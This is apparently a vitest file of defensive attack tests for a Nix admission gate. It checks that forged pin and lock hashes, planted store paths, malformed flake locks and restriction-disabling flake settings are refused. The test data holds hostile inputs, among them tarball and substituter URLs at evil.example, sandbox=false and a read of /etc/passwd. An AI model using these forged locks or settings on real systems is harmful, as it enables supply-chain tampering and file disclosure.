/**
 * Stores and locks that were prepared. The attacker put a tree into the machine's store before, as every user may and as
 * every download does, and has a lock or a pin name it; or writes a lock that says two things. What must hold: a tree
 * counts as a commit's only where its hash was computed from the commit's own objects.
 */
import { expect } from "vitest";
import {
  DEP,
  nivFiles,
  nivPin,
  npinsFiles,
  npinsPin,
  type PinnedCommit,
  type PinsWorld,
  pinsWorld,
  WORDS,
} from "../../packages/local/test/gate/pins-world.ts";
import type { NixVersion } from "../src/nix-world.ts";
import type { Attack, Theme } from "./attack.ts";
import { type Admission, askAdmission } from "./gate-answers.ts";
import { lockOn, renderLock } from "./lock-on.ts";
import { probe } from "./reading-world.ts";

class PreparedWorld implements AsyncDisposable {
  readonly pins: PinsWorld;
  /** The pinned repository's first commit, and the same name and address with other words in it, in the store. */
  readonly honest: PinnedCommit;
  readonly evil: PinnedCommit;

  static async open(version: NixVersion): Promise<PreparedWorld> {
    const pins = await pinsWorld(version);
    return new PreparedWorld(pins, await pins.planted(pins.first, { words: "evil words" }));
  }

  private constructor(pins: PinsWorld, evil: PinnedCommit) {
    this.pins = pins;
    this.honest = pins.first;
    this.evil = evil;
  }

  /** The answer to a checkout that takes words out of a tree. */
  async words(tree: string, files: Readonly<Record<string, string>> = {}) {
    return this.pins.admit({ ...files, "default.nix": `{ words = ${WORDS(tree)}; }` }, "words");
  }

  /** The answer to a flake of these files, in a directory of the checkout. */
  async flake(files: Readonly<Record<string, string>>, attr = "words"): Promise<Admission> {
    await this.pins.admit({ "default.nix": `{ words = ${probe('"x"')}; }`, ...files }, "words");
    return askAdmission(this.pins.world, attr, "flake");
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await this.pins[Symbol.asyncDispose]();
  }
}

const tarball = (archive: string, sha256: string) =>
  `(fetchTarball { url = "${archive}"; sha256 = ${sha256}; })`;
const FLAKE = `{ inputs.dep = { url = "github:o/dep"; flake = false; }; outputs = { self, dep }: { packages.x86_64-linux.words = ${WORDS("dep")}; }; }`;

async function denied(said: Promise<{ code: number | null; said: string }>, code: RegExp): Promise<void> {
  const answer = await said;
  expect([answer.code, answer.said]).toEqual([1, expect.stringMatching(code)]);
}

async function deniedFlake(asked: Promise<Admission>, codes: RegExp): Promise<void> {
  const answer = await asked;
  expect([answer.allowed, answer.codes.join(" ")]).toEqual([false, expect.stringMatching(codes)]);
}

async function locked(world: PreparedWorld, more: object): Promise<string> {
  const lock = JSON.parse(await lockOn(world.pins.dep, "dep", more, "o"));
  lock.nodes.dep.flake = false;
  return JSON.stringify(lock, undefined, 2);
}

const attacks: readonly Attack<PreparedWorld>[] = [
  {
    number: 124,
    name: "the planted tree's hash in a fetchTarball, beside the address of a good commit, and put together from pieces",
    held: "The address names the commit, and its tree has another hash.",
    async run(world) {
      const { archive } = world.honest;
      const halves = [world.evil.nix32.slice(0, 20), world.evil.nix32.slice(20)].map((half) =>
        JSON.stringify(half),
      );
      await denied(world.words(tarball(archive, JSON.stringify(world.evil.nix32))), /tree-differs/);
      await denied(world.words(tarball(archive, `(${halves.join(" + ")})`)), /tree-differs/);
    },
  },
  {
    number: 125,
    name: "the planted tree's hash in pins of npins and of niv",
    held: "Each pin's tree is computed from its commit.",
    async run(world) {
      const npins = npinsFiles({ dep: npinsPin(world.honest, { hash: world.evil.sri }) });
      await denied(world.words("(import ./npins).dep", npins), /tree-differs/);
      const niv = nivFiles({ dep: nivPin(world.honest, { sha256: world.evil.nix32 }) });
      await denied(world.words("(import ./nix/sources.nix).dep", niv), /tree-differs/);
    },
  },
  {
    number: 126,
    name: "the planted tree by fetchTree and fetchGit with its narHash",
    held: "Only the trees of authentic commits are valid where it is evaluated.",
    async run(world) {
      const { rev } = world.honest;
      const { sri } = world.evil;
      for (const tree of [
        `(builtins.fetchTree { type = "github"; owner = "o"; repo = "dep"; rev = "${rev}"; lastModified = 1; narHash = "${sri}"; })`,
        `(builtins.fetchTree { type = "path"; path = "/nowhere"; lastModified = 1; narHash = "${sri}"; })`,
        `(builtins.fetchTree { type = "tarball"; url = "https://evil.example/x.tar.gz"; narHash = "${sri}"; })`,
        `(builtins.fetchGit { url = "${DEP}"; rev = "${rev}"; narHash = "${sri}"; })`,
      ])
        await denied(world.words(tree), /tree-differs|outside-access|evaluation-failed|unknown-source/);
    },
  },
  {
    number: 127,
    name: "the planted tree by its own store path: imported, as storePath, as builtins.path with its hash",
    held: "A store path that is in no tree of the evaluation is outside of it.",
    guard: "local/admission/evaluate-file.ts",
    async run(world) {
      const path = await plantedPath(world);
      for (const tree of [
        `${path}`,
        `(builtins.storePath "${path}")`,
        `(builtins.path { path = "${path}"; name = "source"; sha256 = "${world.evil.nix32}"; })`,
      ])
        await denied(world.words(tree), /outside-access|evaluation-failed/);
    },
  },
  {
    number: 128,
    name: "a flake's lock with the planted tree's hash beside a good commit",
    held: "The lock's hash is compared with the commit's own.",
    guard: "local/admission/locked-trees.ts",
    run: async (world) =>
      deniedFlake(
        world.flake({ "flake.nix": FLAKE, "flake.lock": await locked(world, { narHash: world.evil.sri }) }),
        /lock-differs|tree-differs/,
      ),
  },
  {
    number: 129,
    name: "a flake's lock on a commit that a stranger signed, and on none that there is",
    held: "Every locked commit is authenticated by the rules of its source.",
    guard: "local/admission/locked-trees.ts",
    async run(world) {
      const strange = await world.pins.depCommit({ words: "bob's words" }, world.pins.world.bob);
      const lock = await locked(world, {});
      await deniedFlake(world.flake({ "flake.nix": FLAKE, "flake.lock": lock }), /not-in-role/);
      world.pins.dep.move("main", world.honest.rev);
      const nowhere = lock.replaceAll(strange.rev, "1".repeat(40));
      await deniedFlake(world.flake({ "flake.nix": FLAKE, "flake.lock": nowhere }), /source-unavailable/);
    },
  },
  {
    number: 130,
    name: "a flake's lock on another owner's repository, on a tarball, on a path and on a repository of this machine",
    held: "An input is a source of the rules, or it is refused by what it names.",
    guard: "local/admission/lock.ts",
    async run(world) {
      const { honest, evil } = world;
      const { dir } = world.pins.dep;
      for (const more of [
        { owner: "evil" },
        { host: "evil.example" },
        {
          type: "tarball",
          url: "https://evil.example/x.tar.gz",
          owner: undefined,
          repo: undefined,
          narHash: evil.sri,
        },
        {
          type: "path",
          path: await plantedPath(world),
          owner: undefined,
          repo: undefined,
          narHash: evil.sri,
        },
        { type: "git", url: `file://${dir}`, rev: honest.rev, owner: undefined, repo: undefined },
      ])
        await deniedFlake(
          world.flake({ "flake.nix": FLAKE, "flake.lock": await locked(world, more) }),
          /unknown-source|outside-access|lock-|evaluation-failed/,
        );
    },
  },
  {
    number: 131,
    name: "a lock that says one thing twice, goes round in circles, or is 10,000 deep",
    held: "Locks are read strictly and with limits.",
    guard: "formats/nix/flake-lock.ts",
    async run(world) {
      const good = await locked(world, {});
      const twice = good.replace('"rev":', `"rev": "${"1".repeat(40)}",\n"rev":`);
      const circle = renderLock("dep", { inputs: { dep: ["dep"] } });
      const deep = `{"nodes":${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)},"root":"root","version":7}`;
      for (const lock of [twice, circle, deep, `${good}x`, ""])
        await deniedFlake(
          world.flake({ "flake.nix": FLAKE, "flake.lock": lock }),
          /lock-unreadable|lock-differs|evaluation-failed/,
        );
    },
  },
  {
    number: 132,
    name: "a flake without a lock, whose input is a name of a registry",
    held: "Nothing is looked up: an input is locked, or refused.",
    guard: "local/admission/evaluate-flake.ts",
    run: (world) =>
      deniedFlake(
        world.flake({
          "flake.nix": `{ outputs = { self, dep }: { packages.x86_64-linux.words = ${WORDS("dep")}; }; }`,
        }),
        /lock-|outside-access|evaluation-failed|unknown-source/,
      ),
  },
  {
    number: 133,
    name: "settings in a flake: no restriction, other substituters, builds while evaluating",
    held: "A flake's own settings are not taken.",
    guard: "local/admission/evaluate-flake.ts",
    async run(world) {
      const conf =
        'nixConfig = { restrict-eval = false; pure-eval = false; allow-import-from-derivation = true; extra-substituters = [ "https://evil.example" ]; sandbox = false; };';
      const text = `{ ${conf} outputs = _: { packages.x86_64-linux.words = ${probe("builtins.readFile /etc/passwd")}; }; }`;
      await deniedFlake(world.flake({ "flake.nix": text }), /outside-access|evaluation-failed/);
    },
  },
];

/** Where the planted tree lies. */
async function plantedPath({ pins, evil }: PreparedWorld): Promise<string> {
  const text = `(derivation { name = "source"; system = "x"; builder = "x"; outputHashMode = "recursive"; outputHashAlgo = "sha256"; outputHash = "${evil.nix32}"; }).outPath`;
  const ended = await pins.world.run("nix-instantiate", ["--eval", "-E", text]);
  return JSON.parse(ended.stdout);
}

export const preparedStores: Theme<PreparedWorld> = {
  title: "Stores and locks that were prepared",
  by: "a user who can put a tree into the store, and writes a pin or a lock",
  guard: "local/pins",
  open: (version) => PreparedWorld.open(version),
  controls: [
    {
      name: "the good commit's own hash is admitted, in a pin and in a lock",
      async run(world) {
        const answer = await world.words(tarball(world.honest.archive, JSON.stringify(world.honest.nix32)));
        expect(answer).toMatchObject({ code: 0 });
        const flake = await world.flake({ "flake.nix": FLAKE, "flake.lock": await locked(world, {}) });
        expect([flake.said, flake.allowed]).toEqual([expect.any(String), true]);
      },
    },
    {
      name: "the planted tree is valid, and plain Nix takes it for the commit's",
      async run(world) {
        expect(await world.pins.world.isValid(await plantedPath(world))).toBe(true);
        const tree = tarball(world.honest.archive, JSON.stringify(world.evil.nix32));
        const ended = await world.pins.world.run("nix-instantiate", [
          "--eval",
          "-E",
          `builtins.readFile "\${${tree}}/words"`,
        ]);
        expect(ended.stdout.trim()).toBe('"evil words"');
      },
    },
  ],
  attacks,
};
